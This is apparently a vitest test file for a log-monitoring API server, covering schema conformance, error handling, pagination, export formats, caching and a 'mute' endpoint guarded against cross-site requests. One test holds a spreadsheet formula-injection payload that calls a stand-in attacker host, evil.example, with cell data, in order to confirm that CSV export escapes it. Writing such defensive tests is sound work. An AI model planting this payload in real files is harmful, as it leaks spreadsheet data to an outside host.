import { tableFromIPC } from "apache-arrow";
import { Ajv2020 } from "ajv/dist/2020.js";
import { describe, expect, test } from "vitest";
import type { Finding } from "../../src/model/finding.ts";
import { epochMs, type EpochMs } from "../../src/model/time.ts";
import { createApp } from "../../src/server/app.ts";
import { createMemoryDecisions } from "../../src/store/decision-log.ts";
import { at } from "../builders.ts";
import { finding } from "../finding-builder.ts";
import { idOf } from "../privileges/tenant.ts";
import { samplePrincipals } from "./sample-principals.ts";
import { type SampleView, sampleView } from "./sample-view.ts";

const HOST = "127.0.0.1:7433";
const NOW = (epochMs(at(61)) + 3_000) as EpochMs;

function served(view: SampleView = sampleView()) {
  const log = createMemoryDecisions();
  const app = createApp(view, {
    allowedHosts: () => [HOST],
    version: "test",
    decisions: log,
    now: () => NOW,
    azure: { portal: "https://portal.azure.com", workspace: "/subscriptions/s/resourceGroups/g/providers/p/w" },
    onFailure: (error) => {
      throw error;
    },
  });
  const ask = async (path: string, headers: Record<string, string> = {}, init: RequestInit = {}) =>
    await app.request(path, { ...init, headers: { host: HOST, ...headers } });
  const post = async (path: string, body: unknown, headers: Record<string, string> = {}) =>
    await ask(path, { "content-type": "application/json", ...headers }, { method: "POST", body: JSON.stringify(body) });
  return { ask, post, log };
}

const PRINCIPALS = samplePrincipals();

function idIn(path: string): string {
  if (path.includes("/principals/")) return idOf("p1");
  return path.includes("/calls/") ? "known" : "F-7Q2KABCDEF";
}

interface Operation {
  readonly responses: Record<string, { content?: Record<string, { schema: object }> }>;
}

const clean = (): SampleView => {
  const view = sampleView();
  view.findings = [finding(), finding({ id: "F-ENDED00000", status: "resolved", end: at(300), severity: "low" })];
  return view;
};

describe("every answer is what the document says", async () => {
  const document = (await (await served().ask("/api/v1/openapi.json")).json()) as {
    openapi: string;
    paths: Record<string, Record<string, Operation>>;
  };
  const gets = Object.entries(document.paths).flatMap(([path, item]) =>
    item["get"] === undefined ? [] : [{ path, operation: item["get"] }],
  );
  const check = (schema: object, value: unknown) => {
    const ajv = new Ajv2020({ strict: false, validateFormats: false });
    return ajv.validate(schema, value) ? [] : ajv.errors;
  };

  test("it is OpenAPI 3.1, with every route", () => {
    expect(document.openapi).toBe("3.1.0");
    expect(gets.length).toBeGreaterThanOrEqual(11);
  });

  test.each(gets)("$path", async ({ path, operation }) => {
    const response = await served(Object.assign(clean(), { principals: PRINCIPALS })).ask(
      path.replace("{id}", idIn(path)),
    );
    expect(response.status).toBe(200);
    const schema = operation.responses["200"]?.content?.["application/json"]?.schema ?? { not: {} };
    expect(check(schema, await response.json())).toEqual([]);
  });
});

const faults: { name: string; path: string; status: number; says: RegExp }[] = [
  { name: "an unknown parameter", path: "/api/v1/findings?colour=red", status: 400, says: /colour/ },
  { name: "a limit of none", path: "/api/v1/findings?limit=0", status: 400, says: /limit/ },
  { name: "too large a limit", path: "/api/v1/findings?limit=1001", status: 400, says: /limit/ },
  { name: "a parameter given twice", path: "/api/v1/findings?q=a&q=b", status: 400, says: /q/ },
  { name: "no cursor", path: "/api/v1/findings?cursor=abc", status: 400, says: /cursor/ },
  { name: "no time", path: "/api/v1/minutes?from=yesterday", status: 400, says: /from/ },
  { name: "no such finding", path: "/api/v1/findings/F-NOTTHERE00/minutes", status: 404, says: /no such/ },
  { name: "no such resource", path: "/api/v1/nope", status: 404, says: /no such/ },
  { name: "a path with two slashes", path: "//api/v1/findings", status: 404, says: /./ },
  { name: "a path in capitals", path: "/API/v1/findings", status: 404, says: /./ },
];
test.each(faults)("$name is $status", async ({ path, status, says }) => {
  const response = await served().ask(path);
  expect(response.status).toBe(status);
  const text = await response.text();
  expect(text).toMatch(says);
  if (!path.startsWith("/api/")) return;
  expect(response.headers.get("content-type")).toBe("application/problem+json");
  expect(JSON.parse(text)).toMatchObject({ status, type: "about:blank" });
});

test.each(["findings", "minutes", "matrix", "findings/F-7Q2KABCDEF/minutes"])(
  "nothing is in a range of %s that ends before it begins",
  async (path) => {
    const response = await served().ask(`/api/v1/${path}?from=now&to=now-1h`);
    expect(await response.json()).toMatchObject({ items: [], next: null });
  },
);

test.each(["PUT", "DELETE", "PATCH", "POST"])("%s of a list is told what can be done", async (method) => {
  const response = await served().ask("/api/v1/findings", {}, { method });
  expect(response.status).toBe(405);
  expect(response.headers.get("allow")).toBe("GET, HEAD");
});

test("pages lead through all findings, and the last has no next", async () => {
  const view = sampleView();
  view.findings = Array.from({ length: 25 }, (_, i) =>
    finding({ id: `F-${String(i).padStart(10, "0")}`, onset: at(i) }),
  );
  const { ask } = served(view);
  const ids: string[] = [];
  let next: string | null = "";
  while (next !== null) {
    const path: string = `/api/v1/findings?limit=10${next === "" ? "" : `&cursor=${next}`}`;
    const page = (await (await ask(path)).json()) as { items: Finding[]; next: string | null };
    ids.push(...page.items.map(({ id }) => id));
    next = page.next;
  }
  expect(ids).toHaveLength(25);
  expect(new Set(ids).size).toBe(25);
});

const accepted: { accept: string | undefined; type: string }[] = [
  { accept: undefined, type: "application/json" },
  { accept: "*/*", type: "application/json" },
  { accept: "text/html, */*;q=0.1", type: "application/json" },
  { accept: "text/csv", type: "text/csv" },
  { accept: "application/json;q=0.5, text/csv", type: "text/csv" },
  { accept: "application/x-ndjson", type: "application/x-ndjson" },
  { accept: "application/vnd.apache.arrow.stream", type: "application/vnd.apache.arrow.stream" },
  { accept: "application/xml", type: "application/problem+json" },
  { accept: "application/xml, */*;q=0", type: "application/problem+json" },
];
test.each(accepted)("who accepts $accept gets $type", async ({ accept, type }) => {
  const response = await served().ask("/api/v1/findings", accept === undefined ? {} : { accept });
  expect(response.headers.get("content-type")).toContain(type);
  expect(response.status).toBe(type === "application/problem+json" ? 406 : 200);
});

test("lines of JSON are the items; the next page is in a header", async () => {
  const { ask } = served(clean());
  const response = await ask("/api/v1/findings?limit=1", { accept: "application/x-ndjson" });
  const lines = (await response.text()).trimEnd().split("\n");
  expect(lines.map((line) => (JSON.parse(line) as Finding).id)).toEqual(["F-7Q2KABCDEF"]);
  const link = /^<(.*)>; rel="next"$/.exec(response.headers.get("link") ?? "")?.[1] ?? "";
  const second = await ask(link, { accept: "application/x-ndjson" });
  expect(await second.text()).toContain("F-ENDED00000");
  expect(second.headers.get("link")).toBeNull();
});

test("a table has a row each, and no cell that a spreadsheet would run", async () => {
  const view = clean();
  view.findings = [
    finding({ title: `=HYPERLINK("http://evil.example?"&A1)`, subject: { api: "+1", operation: 'a"b,c' } }),
  ];
  const response = await served(view).ask("/api/v1/findings", { accept: "text/csv" });
  const [head = "", row = "", rest] = (await response.text()).split("\r\n");
  expect(head).toContain("subject.api");
  expect(head).toContain("counts.status.403");
  expect(row).toContain(`"'=HYPERLINK(""http://evil.example?""&A1)"`);
  expect(row).toContain("'+1");
  expect(row).toContain('"a""b,c"');
  expect(rest).toBe("");
});

test.each(["/api/v1/findings", "/api/v1/minutes", "/api/v1/calls/known", "/api/v1/findings/F-7Q2KABCDEF/comparison"])(
  "%s as Arrow has the rows of its JSON, exactly",
  async (path) => {
    const view = clean();
    view.findings = [
      finding({ title: "=1+1 \u202e<b>", status: "resolved", end: at(9) }),
      finding({ id: "F-OPEN000000" }),
    ];
    const { ask } = served(view);
    const { items } = (await (await ask(path)).json()) as { items: Record<string, unknown>[] };
    const response = await ask(path, { accept: "application/vnd.apache.arrow.stream" });
    const table = tableFromIPC(new Uint8Array(await response.arrayBuffer()));
    const rows = table.toArray().map((row) => (row as { toJSON(): Record<string, unknown> }).toJSON());
    expect(rows).toHaveLength(items.length);
    const [item = {}, row = {}] = [items[0], rows[0]];
    for (const [name, value] of Object.entries(item)) {
      if (typeof value === "object" && value !== null && !Array.isArray(value)) continue;
      expect(row[name]).toEqual(Array.isArray(value) ? JSON.stringify(value) : value);
    }
    if (path === "/api/v1/findings") {
      expect(rows.map((one) => one["counts.calls"])).toEqual([9_204, 9_204]);
      expect(rows.map((one) => typeof one["end"]).toSorted()).toEqual(["object", "string"]);
      expect(String(table.schema.fields.find(({ name }) => name === "counts.status.403")?.type)).toBe("Float64");
    }
  },
);

test("an empty list is an Arrow stream without rows", async () => {
  const view = clean();
  view.findings = [];
  const response = await served(view).ask("/api/v1/findings", { accept: "application/vnd.apache.arrow.stream" });
  expect(tableFromIPC(new Uint8Array(await response.arrayBuffer())).numRows).toBe(0);
});

test("what did not change is not sent again, in any type", async () => {
  const { ask } = served();
  for (const accept of ["application/json", "text/csv", "application/vnd.apache.arrow.stream"]) {
    const first = await ask("/api/v1/findings", { accept });
    const etag = first.headers.get("etag") ?? "";
    expect(etag).not.toBe("");
    expect((await ask("/api/v1/findings", { accept, "if-none-match": etag })).status).toBe(304);
    expect((await ask("/api/v1/findings?status=resolved", { accept, "if-none-match": etag })).status).toBe(200);
  }
});

describe("decisions", () => {
  const MUTE = "/api/v1/findings/F-7Q2KABCDEF/mute";

  test("a mute is kept with who, why and until", async () => {
    const { ask, post, log } = served(clean());
    const until = new Date(NOW + 3_600_000).toISOString();
    const response = await post(MUTE, { reason: "planned rotation", until });
    expect(response.status).toBe(200);
    expect(await response.json()).toMatchObject({ kind: "mute", by: "local", reason: "planned rotation", until });
    expect(log.decisions.mutes.size).toBe(1);
    const { items } = (await (await ask("/api/v1/findings/F-7Q2KABCDEF/decisions")).json()) as { items: unknown[] };
    expect(items).toHaveLength(1);
    await post("/api/v1/findings/F-7Q2KABCDEF/unmute", { reason: "done" });
    expect(log.decisions.mutes.size).toBe(0);
  });

  const refused: { name: string; path?: string; body: unknown; headers?: Record<string, string>; status: number }[] = [
    { name: "a mute without a reason", body: {}, status: 400 },
    { name: "a reason of spaces", body: { reason: "     " }, status: 400 },
    { name: "an end in the past", body: { reason: "because", until: "2020-01-01T00:00:00Z" }, status: 409 },
    { name: "an end that is no time", body: { reason: "because", until: "tomorrow" }, status: 400 },
    { name: "an unknown member", body: { reason: "because", admin: true }, status: 400 },
    { name: "a list", body: [], status: 400 },
    {
      name: "a mute by a principal that the finding does not name",
      body: { reason: "because", scope: "principal" },
      status: 409,
    },
    {
      name: "a finding that is not there",
      path: "/api/v1/findings/F-NOTTHERE00/mute",
      body: { reason: "because" },
      status: 404,
    },
    { name: "a form", body: { reason: "because" }, headers: { "content-type": "text/plain" }, status: 415 },
    {
      name: "another site's page",
      body: { reason: "because" },
      headers: { "sec-fetch-site": "cross-site" },
      status: 403,
    },
    {
      name: "a page of the same domain",
      body: { reason: "because" },
      headers: { "sec-fetch-site": "same-site" },
      status: 403,
    },
    { name: "another origin", body: { reason: "because" }, headers: { origin: "https://evil.example" }, status: 403 },
    { name: "an origin of nothing", body: { reason: "because" }, headers: { origin: "null" }, status: 403 },
    { name: "a large body", body: { reason: "x".repeat(70_000) }, status: 413 },
  ];
  test.each(refused)("$name is refused with $status", async ({ path = MUTE, body, headers, status }) => {
    const { post, log } = served(clean());
    expect((await post(path, body, headers)).status).toBe(status);
    expect(log.decisions.log).toEqual([]);
  });

  test("our own page may", async () => {
    const own = { "sec-fetch-site": "same-origin", origin: `http://${HOST}` };
    expect((await served(clean()).post(MUTE, { reason: "because" }, own)).status).toBe(200);
  });
});

test("a query of a finding comes with the portal's link", async () => {
  const answer = (await (await served().ask("/api/v1/findings/F-7Q2KABCDEF/kql")).json()) as Record<string, string>;
  expect(answer["kql"]).toContain("ApiManagementGatewayLogs");
  expect(answer["portal"]).toContain("https://portal.azure.com/#blade/");
});
